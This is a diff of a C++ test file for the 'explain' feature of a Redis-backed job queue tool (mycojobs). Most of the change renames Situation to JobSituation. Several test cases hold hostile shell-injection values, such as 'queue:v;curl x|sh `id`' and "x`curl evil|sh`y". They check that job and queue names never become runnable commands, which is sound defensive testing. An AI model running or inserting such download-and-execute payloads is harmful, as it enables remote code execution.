@@ -20,55 +20,57 @@ using ::testing::Not;
 
 struct Case {
   std::string name;
-  Situation about;
+  JobSituation about;
   std::string state, cause, reason, next;  // `reason` and `next` are substrings of the expected texts
   std::string evidence = "";
 };
 
 template <class Change>
-Situation with(Situation about, Change change) {
+JobSituation with(JobSituation about, Change change) {
   change(about);
   return about;
 }
 
 std::vector<Case> unclaimed_cases() {
-  const auto gone = [](Situation& s) { s.job.record.clear(), s.job.record_type = "none", s.job.in_queue = 0; };
+  const auto gone = [](JobSituation& s) { s.job.record.clear(), s.job.record_type = "none", s.job.in_queue = 0; };
   const auto nobody = with(pushed(), gone);
-  const auto letter = [](Situation& s) { s.dead_letter = DeadLetter{"5-0", "job:12:7", "queue:v", "no_record", kNow}; };
-  const auto shell = [](Situation& s) { s.job.in_queue = 0, s.queue = "queue:v;curl x|sh `id`"; };
+  const auto letter = [](JobSituation& s) {
+    s.dead_letter = DeadLetter{"5-0", "job:12:7", "queue:v", "no_record", kNow};
+  };
+  const auto shell = [](JobSituation& s) { s.job.in_queue = 0, s.queue = "queue:v;curl x|sh `id`"; };
   return {
       {"nothing", nobody, "unknown", "no_such_job", "job:12:7", "job list"},
-      {"in database 0", with(nobody, [](Situation& s) { s.in_database_0 = true, s.context = 3; }), "unknown",
+      {"in database 0", with(nobody, [](JobSituation& s) { s.in_database_0 = true, s.context = 3; }), "unknown",
        "in_database_0", "is in database 0, and the jobs of context 3 are in database 3",
        "redis-cli MOVE job:12:7 3`, then `redis-cli -n 3 LPUSH queue:v job:12:7`", "a record in database 0"},
-      {"a list", with(pushed(), [](Situation& s) { s.job.record_type = "list"; }), "unknown", "wrong_type",
+      {"a list", with(pushed(), [](JobSituation& s) { s.job.record_type = "list"; }), "unknown", "wrong_type",
        "is a list where a hash", "DEL job:12:7"},
-      {"a claim that is text", with(pushed(), [](Situation& s) { s.job.claim_type = "string"; }), "unknown",
+      {"a claim that is text", with(pushed(), [](JobSituation& s) { s.job.claim_type = "string"; }), "unknown",
        "wrong_type", "mj:claim:job:12:7 is a string", "doctor --rebuild"},
-      {"entry first", with(nobody, [](Situation& s) { s.job.missing = true; }), "missing", "record_awaited",
+      {"entry first", with(nobody, [](JobSituation& s) { s.job.missing = true; }), "missing", "record_awaited",
        "its record has not been written yet", "HSET job:12:7"},
       {"record after its entry was put aside",
-       with(pushed(), [](Situation& s) { s.job.missing = true, s.job.in_queue = 0; }), "missing", "record_awaited",
+       with(pushed(), [](JobSituation& s) { s.job.missing = true, s.job.in_queue = 0; }), "missing", "record_awaited",
        "was written after its key", "start an agent"},
       {"no record came", with(nobody, letter), "missing", "record_never_came", "queue:v", "queue dead --requeue 5-0",
        "dead letter 5-0: no_record"},
       {"record deleted", with(claimed("queued"), gone), "missing", "record_deleted", "was deleted", "write the record"},
       {"bare record of a type that a shell would run", with(pushed(), shell), "unqueued", "not_queued", "in no queue",
        "LPUSH 'queue:v;curl x|sh '\"$(printf '\\140')\"'id'"},
-      {"bare record", with(pushed(), [](Situation& s) { s.job.in_queue = 0, s.context = 3; }), "unqueued", "not_queued",
-       "in no queue", "redis-cli -n 3 LPUSH queue:v job:12:7", "not in queue:v"},
-      {"no type", with(pushed(), [](Situation& s) { s.job.in_queue = 0, s.queue.clear(); }), "unqueued",
+      {"bare record", with(pushed(), [](JobSituation& s) { s.job.in_queue = 0, s.context = 3; }), "unqueued",
+       "not_queued", "in no queue", "redis-cli -n 3 LPUSH queue:v job:12:7", "not in queue:v"},
+      {"no type", with(pushed(), [](JobSituation& s) { s.job.in_queue = 0, s.queue.clear(); }), "unqueued",
        "no_script_type", "script_type", "HSET job:12:7 script_type"},
-      {"another system's", with(pushed(), [](Situation& s) { s.job.in_queue = 0, set(s, "status", "started"); }),
+      {"another system's", with(pushed(), [](JobSituation& s) { s.job.in_queue = 0, set(s, "status", "started"); }),
        "unqueued", "started_elsewhere", "no runner of mycojobs", "LPUSH"},
-      {"another system's end", with(pushed(), [](Situation& s) { set(s, "status", "finished"); }), "ended",
+      {"another system's end", with(pushed(), [](JobSituation& s) { set(s, "status", "finished"); }), "ended",
        "ended_elsewhere", "says finished", "another id"},
   };
 }
 
 std::vector<Case> queued_cases() {
   const auto serve = [](std::vector<RunnerInfo> runners) {
-    return with(pushed(), [&](Situation& s) { s.runners = std::move(runners); });
+    return with(pushed(), [&](JobSituation& s) { s.runners = std::move(runners); });
   };
   RunnerInfo silent = runner(21, {"v"});
   silent.held_ms = 0;
@@ -84,13 +86,13 @@ std::vector<Case> queued_cases() {
   RunnerInfo short_of_descriptors = runner(28, {"v"});
   short_of_descriptors.runner.detail = "paused: out of descriptors: raise the limit";
   const auto own = [](Id runner_id, std::vector<RunnerInfo> runners) {
-    return with(claimed("queued"), [&](Situation& s) {
+    return with(claimed("queued"), [&](JobSituation& s) {
       s.queue = s.job.claim.queue = "mj:queue:runner" + std::to_string(runner_id);
       s.runners = std::move(runners), s.ahead = 0;
     });
   };
   return {
-      {"paused", with(serve({runner(20, {"v"})}), [](Situation& s) { s.queue_paused = true; }), "queued",
+      {"paused", with(serve({runner(20, {"v"})}), [](JobSituation& s) { s.queue_paused = true; }), "queued",
        "queue_paused", "queue:v is paused", "queue resume v", "position 2 of 3"},
       {"nobody at all", serve({}), "queued", "no_runner", "no runner serves queue:v", "start an agent",
        "no runner of this context is alive"},
@@ -115,36 +117,36 @@ std::vector<Case> queued_cases() {
       {"more claims than slots", serve({runner(20, {"v"}, 2, 3)}), "queued", "slots_busy", "serves queue:v", "wait",
        "runner 20 on host-a (2 of 2 slots busy, 1 claimed ahead)"},
       {"behind", serve({runner(20, {"v"})}), "queued", "behind_others", "1 job precedes it", "wait"},
-      {"far behind", with(serve({runner(20, {"v"})}), [](Situation& s) { s.ahead.reset(); }), "queued", "behind_others",
-       "very many", "wait"},
-      {"next", with(serve({runner(20, {"v"})}), [](Situation& s) { s.ahead = 0; }), "queued", "next", "next one",
+      {"far behind", with(serve({runner(20, {"v"})}), [](JobSituation& s) { s.ahead.reset(); }), "queued",
+       "behind_others", "very many", "wait"},
+      {"next", with(serve({runner(20, {"v"})}), [](JobSituation& s) { s.ahead = 0; }), "queued", "next", "next one",
        "repeat the command"},
-      {"queued again", with(claimed("queued"), [](Situation& s) { s.job.claim.reason = "expired"; }), "queued",
+      {"queued again", with(claimed("queued"), [](JobSituation& s) { s.job.claim.reason = "expired"; }), "queued",
        "no_runner", "no runner", "start", "delivery 1 ended without a report (expired)"},
-      {"retried", with(claimed("queued"), [](Situation& s) { s.job.claim.reason = "requeued"; }), "queued", "no_runner",
-       "no runner", "start", "was returned by requeued"},
-      {"pushed twice", with(pushed(), [](Situation& s) { s.job.in_queue = 2; }), "queued", "no_runner", "no runner",
+      {"retried", with(claimed("queued"), [](JobSituation& s) { s.job.claim.reason = "requeued"; }), "queued",
+       "no_runner", "no runner", "start", "was returned by requeued"},
+      {"pushed twice", with(pushed(), [](JobSituation& s) { s.job.in_queue = 2; }), "queued", "no_runner", "no runner",
        "start", "is in the queue 2 times"},
-      {"priority", with(claimed("queued"), [](Situation& s) { s.job.in_queue = 0, s.job.in_priority = true; }),
+      {"priority", with(claimed("queued"), [](JobSituation& s) { s.job.in_queue = 0, s.job.in_priority = true; }),
        "queued", "no_runner", "no runner", "start"},
       {"high priority, alone",
        with(serve({runner(20, {"v"})}),
-            [](Situation& s) {
+            [](JobSituation& s) {
               s.job.in_queue = 0, s.ahead.reset(), s.job.in_priority = true, s.prioritised = 1;
               set(s, "priority", "5");
             }),
        "queued", "next", "next one", "repeat the command", "priority 5: beside queue:v"},
       {"low priority, behind the list",
        with(serve({runner(20, {"v"})}),
-            [](Situation& s) {
+            [](JobSituation& s) {
               s.job.in_queue = 0, s.ahead.reset(), s.job.in_priority = true, s.prioritised = 2;
               set(s, "priority", "-5");
             }),
        "queued", "behind_others", "at most 4 jobs come", "wait", "with 1 other job that"},
       {"first of the list, behind a priority",
-       with(serve({runner(20, {"v"})}), [](Situation& s) { s.ahead = 0, s.prioritised = 2; }), "queued",
+       with(serve({runner(20, {"v"})}), [](JobSituation& s) { s.ahead = 0, s.prioritised = 2; }), "queued",
        "behind_others", "at most 2 jobs", "wait", "2 jobs with a priority"},
-      {"entry taken by another client", with(claimed("queued"), [](Situation& s) { s.job.in_queue = 0; }), "queued",
+      {"entry taken by another client", with(claimed("queued"), [](JobSituation& s) { s.job.in_queue = 0; }), "queued",
        "place_lost", "should be in queue:v", "doctor --rebuild"},
       {"own queue of a runner that is away", own(20, {runner(21, {"v"})}), "queued", "no_runner",
        "no runner serves mj:queue:runner20", "start the runner that this queue belongs to"},
@@ -159,58 +161,58 @@ std::vector<Case> live_cases() {
       {"running", live(), "live", "running", "runner 20 has it", "job logs --follow", "its lease ends in 4 s"},
       {"since", live(), "live", "running", "runner 20", "job cancel",
        "claimed 90 s ago; time limit the runner's default"},
-      {"cancelling", change([](Situation& s) { s.job.claim.cancel = true; }), "live", "cancelling", "TERM",
+      {"cancelling", change([](JobSituation& s) { s.job.claim.cancel = true; }), "live", "cancelling", "TERM",
        "grace time"},
-      {"unkillable", change([](Situation& s) { set(s, "detail", "unkillable"), s.job.claim.cancel = true; }), "live",
+      {"unkillable", change([](JobSituation& s) { set(s, "detail", "unkillable"), s.job.claim.cancel = true; }), "live",
        "unkillable", "does not end on KILL", "host of runner 20"},
-      {"runner silent", change([](Situation& s) { s.runners[0].held_ms = 0; }), "live", "runner_silent",
+      {"runner silent", change([](JobSituation& s) { s.runners[0].held_ms = 0; }), "live", "runner_silent",
        "sends no heartbeat", "start an agent", "silent for 12 s"},
-      {"runner silent, others alive", change([](Situation& s) {
+      {"runner silent, others alive", change([](JobSituation& s) {
          s.runners[0].held_ms = 0, s.job.claim.cancel = true;
          s.runners.push_back(runner(21, {"python"}));
        }),
        "live", "runner_silent", "sends no heartbeat", "wait 4 s", "a cancellation was requested"},
-      {"runner started anew", change([](Situation& s) { s.runners[0].hold.instance = "instance-b"; }), "live",
+      {"runner started anew", change([](JobSituation& s) { s.runners[0].hold.instance = "instance-b"; }), "live",
        "runner_silent", "sends no heartbeat", "wait 4 s", "runner 20 was restarted on host-a"},
-      {"agent gone", change([](Situation& s) { s.owner_gone = true; }), "live", "runner_silent",
+      {"agent gone", change([](JobSituation& s) { s.owner_ended = true; }), "live", "runner_silent",
        "it is not running: the agent of runner 20 that claimed it has ended", "returns it to its queue at once",
        "has ended on this host"},
-      {"agent gone, cancelled", change([](Situation& s) { s.owner_gone = true, s.job.claim.cancel = true; }), "live",
-       "runner_silent", "it is not running", "it ends it at once", "has ended on this host"},
-      {"no registration", change([](Situation& s) { s.runners.clear(); }), "live", "runner_silent", "runner 20",
+      {"agent gone, cancelled", change([](JobSituation& s) { s.owner_ended = true, s.job.claim.cancel = true; }),
+       "live", "runner_silent", "it is not running", "it ends it at once", "has ended on this host"},
+      {"no registration", change([](JobSituation& s) { s.runners.clear(); }), "live", "runner_silent", "runner 20",
        "start an agent", "no registration"},
-      {"lease over, others alive", change([](Situation& s) {
+      {"lease over, others alive", change([](JobSituation& s) {
          s.job.claim.until_ms = kNow - 3000;
          s.runners[0].held_ms = 0;
          s.runners.push_back(runner(21, {"python"}));
        }),
        "live", "lease_over", "its lease has expired", "wait: any agent"},
       {"lease over, nobody alive",
-       change([](Situation& s) { s.job.claim.until_ms = kNow - 3000, s.runners[0].held_ms = 0; }), "live", "lease_over",
-       "its lease has expired", "start an agent"},
-      {"record deleted", change([](Situation& s) { s.job.record_type = "none", s.job.record.clear(); }), "live",
+       change([](JobSituation& s) { s.job.claim.until_ms = kNow - 3000, s.runners[0].held_ms = 0; }), "live",
+       "lease_over", "its lease has expired", "start an agent"},
+      {"record deleted", change([](JobSituation& s) { s.job.record_type = "none", s.job.record.clear(); }), "live",
        "running", "runner 20", "wait", "its record was deleted"},
-      {"not in the index", change([](Situation& s) { s.job.lease_until_ms.reset(); }), "live", "place_lost", "leases",
-       "doctor --rebuild"},
+      {"not in the index", change([](JobSituation& s) { s.job.lease_until_ms.reset(); }), "live", "place_lost",
+       "leases", "doctor --rebuild"},
   };
 }
 
 std::vector<Case> parked_cases() {
   const auto later = [](std::uint64_t due) {
-    return with(claimed("delayed"), [due](Situation& s) { s.job.due_ms = due, set(s, "detail", "delayed"); });
+    return with(claimed("delayed"), [due](JobSituation& s) { s.job.due_ms = due, set(s, "detail", "delayed"); });
   };
-  const auto retry = with(later(kNow + 4000), [](Situation& s) {
+  const auto retry = with(later(kNow + 4000), [](JobSituation& s) {
     set(s, "detail", "retry_wait"), set(s, "retries", "3"), set(s, "error", "exit code 1"), s.job.claim.attempt = 2;
   });
-  const auto condition = with(claimed("prerequisites"), [](Situation& s) {
+  const auto condition = with(claimed("prerequisites"), [](JobSituation& s) {
     s.job.check_ms = kNow + 2000, set(s, "prerequisites", R"(["file:/data/ready","wait:30s"])");
   });
-  const auto alive = [](Situation& s) { s.runners = {runner(20, {"python"})}; };
+  const auto alive = [](JobSituation& s) { s.runners = {runner(20, {"python"})}; };
   auto circle = waiting({other("job:12:8", "waiting")});
   circle.cycle = {"job:12:7", "job:12:8", "job:12:7"};
   return {
       {"later", later(kNow + 7'200'000), "delayed", "postponed", "in 2 h (2023-11-15T00:13:20Z)", "job cancel"},
-      {"quota", with(later(kNow + 9000), [](Situation& s) { set(s, "detail", "quota"); }), "delayed", "quota",
+      {"quota", with(later(kNow + 9000), [](JobSituation& s) { set(s, "detail", "quota"); }), "delayed", "quota",
        "keep more than a quota allows", "job delete"},
       {"retry", retry, "delayed", "retry_wait", "in 4 s", "wait", "attempt 2 of 4"},
       {"retry tells the last error", retry, "delayed", "retry_wait", "in 4 s", "wait", "last error: exit code 1"},
@@ -228,11 +230,11 @@ std::vector<Case> parked_cases() {
       {"nobody looks", condition, "prerequisites", "not_checked", "no process is running that checks them",
        "start an agent", "prerequisite: wait:30s"},
       {"condition lost", claimed("prerequisites"), "prerequisites", "place_lost", "prerequisites", "doctor --rebuild"},
-      {"planned", with(claimed("planned"), [](Situation& s) { s.job.claim.flow = "1 33"; }), "planned", "flow",
+      {"planned", with(claimed("planned"), [](JobSituation& s) { s.job.claim.flow = "1 33"; }), "planned", "flow",
        "waits for its flow 33", "mycojobs flow explain 33", "of flow:33"},
-      {"away", with(claimed("planned"), [](Situation& s) { s.job.claim.message = "message:12:101"; }), "planned",
+      {"away", with(claimed("planned"), [](JobSituation& s) { s.job.claim.message = "message:12:101"; }), "planned",
        "away", "to another context", "mycojobs message show 12:101", "of message:12:101"},
-      {"slots", with(held(), [](Situation& s) { s.slot_takers = {"job:12:1"}; }), "held", "slots_taken",
+      {"slots", with(held(), [](JobSituation& s) { s.slot_takers = {"job:12:1"}; }), "held", "slots_taken",
        "1 of 1 job that concurrency key db allows runs now", "job explain 12:1", "runs: job:12:1"},
       {"no taker", held(), "held", "slot_free", "no job of that key runs", "doctor --rebuild"},
       {"hold lost", claimed("held"), "held", "place_lost", "concurrency key", "doctor --rebuild"},
@@ -240,7 +242,7 @@ std::vector<Case> parked_cases() {
 }
 
 std::vector<Case> ended_cases() {
-  const auto never_ran = with(ended("error", "timeout"), [](Situation& s) { s.job.claim.epoch = 0; });
+  const auto never_ran = with(ended("error", "timeout"), [](JobSituation& s) { s.job.claim.epoch = 0; });
   return {
       {"finished", ended("finished", "ok"), "ended", "finished", "it has finished", "job show 12:7", "ended 5 s ago"},
       {"exception", ended("error", "exception"), "ended", "failed", "exception: what went wrong",
@@ -253,7 +255,7 @@ std::vector<Case> ended_cases() {
       {"cancelled", ended("error", "cancelled"), "ended", "cancelled", "permanent", "submit it again"},
       {"dead letter",
        with(ended("error", "dead_letter"),
-            [](Situation& s) {
+            [](JobSituation& s) {
               s.dead_letter = DeadLetter{"6-0", "job:12:7", "queue:v", "crash_loop", kNow};
             }),
        "ended", "dead_letter", "what went wrong", "job retry 12:7", "dead letter 6-0: crash_loop"},
@@ -264,12 +266,12 @@ std::vector<Case> ended_cases() {
        "HSET job:12:7 policy"},
       {"waited too long", never_ran, "ended", "queue_timeout", "no runner claimed it in time", "runner list"},
       {"skipped by its flow",
-       with(ended("error", "skipped"), [](Situation& s) { s.job.claim.flow = "1 33", s.job.claim.epoch = 0; }), "ended",
-       "settled_by_flow", "no runner ever had it: what went wrong", "mycojobs flow explain 33"},
-      {"status overwritten", with(ended("finished", "ok"), [](Situation& s) { set(s, "status", "dispatched"); }),
+       with(ended("error", "skipped"), [](JobSituation& s) { s.job.claim.flow = "1 33", s.job.claim.epoch = 0; }),
+       "ended", "settled_by_flow", "no runner ever had it: what went wrong", "mycojobs flow explain 33"},
+      {"status overwritten", with(ended("finished", "ok"), [](JobSituation& s) { set(s, "status", "dispatched"); }),
        "ended", "finished", "it has finished", "nothing", "overwritten its status"},
       {"record deleted after the end",
-       with(ended("error", "exit"), [](Situation& s) { s.job.record_type = "none", s.job.record.clear(); }), "ended",
+       with(ended("error", "exit"), [](JobSituation& s) { s.job.record_type = "none", s.job.record.clear(); }), "ended",
        "failed", "exit", "job retry", "its record was deleted"},
   };
 }
@@ -312,20 +314,20 @@ TEST(Explain, CausesAndTableRowsMatch) {
 }
 
 TEST(Explain, ReportsAnomaliesThatNameTheJob) {
-  Situation about = pushed();
+  JobSituation about = pushed();
   about.anomalies = {"job:12:7 is odd"};
   EXPECT_THAT(explain(about).evidence, Contains("recorded anomaly: job:12:7 is odd"));
 }
 
 TEST(Explain, CommandsNameANonDefaultContext) {
-  Situation about = ended("error", "exit");
+  JobSituation about = ended("error", "exit");
   EXPECT_THAT(explain(about).next, HasSubstr("`mycojobs job retry 12:7`"));
   about.context = 3;
   EXPECT_THAT(explain(about).next, HasSubstr("`mycojobs job retry 12:7 --context 3`"));
 }
 
 TEST(Explain, ManyDependenciesAreCountedNotListed) {
-  std::vector<JobPlaces> awaited;
+  std::vector<JobStoreState> awaited;
   for (int i = 1; i <= 500; ++i) awaited.push_back(other("job:12:" + std::to_string(1000 + i), "queued"));
   const Explanation out = explain(waiting(awaited));
   EXPECT_LT(out.evidence.size(), 15U);
@@ -333,7 +335,7 @@ TEST(Explain, ManyDependenciesAreCountedNotListed) {
 }
 
 TEST(Explain, ReportsThePreviousRunsOfAWarmProcess) {
-  Situation about = claimed("ended");
+  JobSituation about = claimed("ended");
   about.job.claim.status = "finished";
   const std::string words = "it was warm: its process had served 3 jobs before";
   EXPECT_THAT(explain(about).evidence, Not(Contains(words)));
@@ -346,7 +348,7 @@ TEST(Explain, ForeignNamesCreateNoCommand) {
   const std::string hostile = "x`curl evil|sh`y";
   for (const Case& each : all_cases()) {
     SCOPED_TRACE(each.name);
-    Situation about = each.about;
+    JobSituation about = each.about;
     for (const char* name : {"name", "error", "concurrency_key"}) set(about, name, hostile);
     set(about, "prerequisites", R"(["approval:)" + hostile + R"("])");
     if (!about.queue.empty()) about.queue = "queue:" + hostile;
@@ -357,7 +359,7 @@ TEST(Explain, ForeignNamesCreateNoCommand) {
 }
 
 TEST(Explain, InvalidPrerequisitesAreShownUnchanged) {
-  Situation about = claimed("prerequisites");
+  JobSituation about = claimed("prerequisites");
   about.job.check_ms = kNow;
   set(about, "prerequisites", "[oops");
   EXPECT_THAT(explain(about).evidence, Contains("prerequisite: [oops"));
